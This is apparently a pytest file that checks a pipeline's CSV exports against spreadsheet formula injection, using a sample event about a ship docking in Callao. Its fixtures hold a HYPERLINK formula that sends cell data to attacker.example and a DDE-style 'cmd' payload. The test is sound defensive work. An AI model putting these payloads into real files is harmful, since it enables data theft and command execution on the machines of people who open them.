"""CSV cells a spreadsheet would run as formulas are neutralised in our CSV exports."""

import csv
import io
import json

from click.testing import CliRunner

from pipeline import store
from pipeline.cells import CsvRewriter, neutralize
from pipeline.cli import cli
from pipeline.records import Document, Event, Evidence, Tagged

HOSTILE_TITLE = '=HYPERLINK("http://attacker.example/?d="&A1,"Click")'
TEXT = "Port call\nThe Chinese hospital ship Silk Road Ark docked in Callao on 2 October 2024."


def hostile_corpus(path) -> None:
    """One event whose title, location and reviewer note start with formula characters."""
    db = store.open_db(path)
    run = store.start_run(db, "test", "test")
    sentence = TEXT.split("\n")[1]
    start, t0 = TEXT.index(sentence), TEXT.index("docked")
    evidence = Evidence("d-1", sentence, start, start + len(sentence), None,
                        "port_call.dock.en", "docked", t0, t0 + 6)
    event = Event("port-call", "port_call", "2024-10-02", "day", "stated", ("CHN", "PER"),
                  "+Callao", (), (), 0.8, (evidence,))
    doc = Document(id="d-1", url="https://example.org/a", source="test", text=TEXT,
                   title=HOSTILE_TITLE, published="2024-10-03", language="en")
    store.save(db, Tagged(doc, (), (event,), "test"), run)
    db.conn.execute("INSERT INTO reviews (event_key, status, reviewer, reviewed_at, note) "
                    "VALUES ('port-call', 'accepted', 'ana', '2026-01-01T10:00:00Z', "
                    "'@SUM(1+1)*cmd|'' /C calc''!A0')")
    db.conn.close()


def test_neutralize_marks_formula_text_and_leaves_numbers_and_other_text():
    cells = ["=1+2", "+cmd", "-2+3", "@SUM(A1)", "\t=x", "\r=x", "＝1+2", "-3", "+1.5",
             "Callao", "", None, 7, -3.5]
    assert [neutralize(c) for c in cells] == [
        "'=1+2", "'+cmd", "'-2+3", "'@SUM(A1)", "'\t=x", "'\r=x", "'＝1+2", "-3", "+1.5",
        "Callao", "", None, 7, -3.5]


def test_the_stream_rewriter_handles_records_split_across_chunks():
    source = b'title,note\r\n"=a,b","two\nlines ""=x"""\r\n+c,-4\r\n'
    rewriter = CsvRewriter()
    out = b"".join(rewriter.feed(source[i:i + 3]) for i in range(0, len(source), 3))
    out += rewriter.close()
    assert list(csv.reader(io.StringIO(out.decode(), newline=""))) == [
        ["title", "note"], ["'=a,b", 'two\nlines "=x"'], ["'+c", "-4"]]


def test_csv_exports_neutralise_titles_locations_and_notes(db_path, tmp_path):
    hostile_corpus(db_path)
    runner = CliRunner()
    events = runner.invoke(cli, ["export", "--db", str(db_path), "--format", "csv"])
    assert events.exit_code == 0, events.output
    (row,) = csv.DictReader(io.StringIO(events.output))
    assert (row["location"], row["review_note"]) == ("'+Callao", "'@SUM(1+1)*cmd|' /C calc'!A0")
    evidence = runner.invoke(cli, ["export", "--db", str(db_path), "--what", "evidence",
                                   "--format", "csv"])
    (sentence,) = csv.DictReader(io.StringIO(evidence.output))
    assert sentence["document_title"] == "'" + HOSTILE_TITLE
    documents = runner.invoke(cli, ["export", "--db", str(db_path), "--what", "documents",
                                    "--format", "csv"])
    (doc,) = csv.DictReader(io.StringIO(documents.output))
    assert doc["title"] == "'" + HOSTILE_TITLE
    reviews = runner.invoke(cli, ["export", "--db", str(db_path), "--what", "reviews",
                                  "--format", "csv", "--out", str(tmp_path / "r.csv")])
    assert reviews.exit_code == 0
    with open(tmp_path / "r.csv", encoding="utf-8", newline="") as f:
        (review,) = csv.DictReader(f)
    assert review["note"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    # JSON lines keep the values exactly
    jsonl = runner.invoke(cli, ["export", "--db", str(db_path), "--format", "jsonl"])
    assert json.loads(jsonl.output)["location"] == "+Callao"
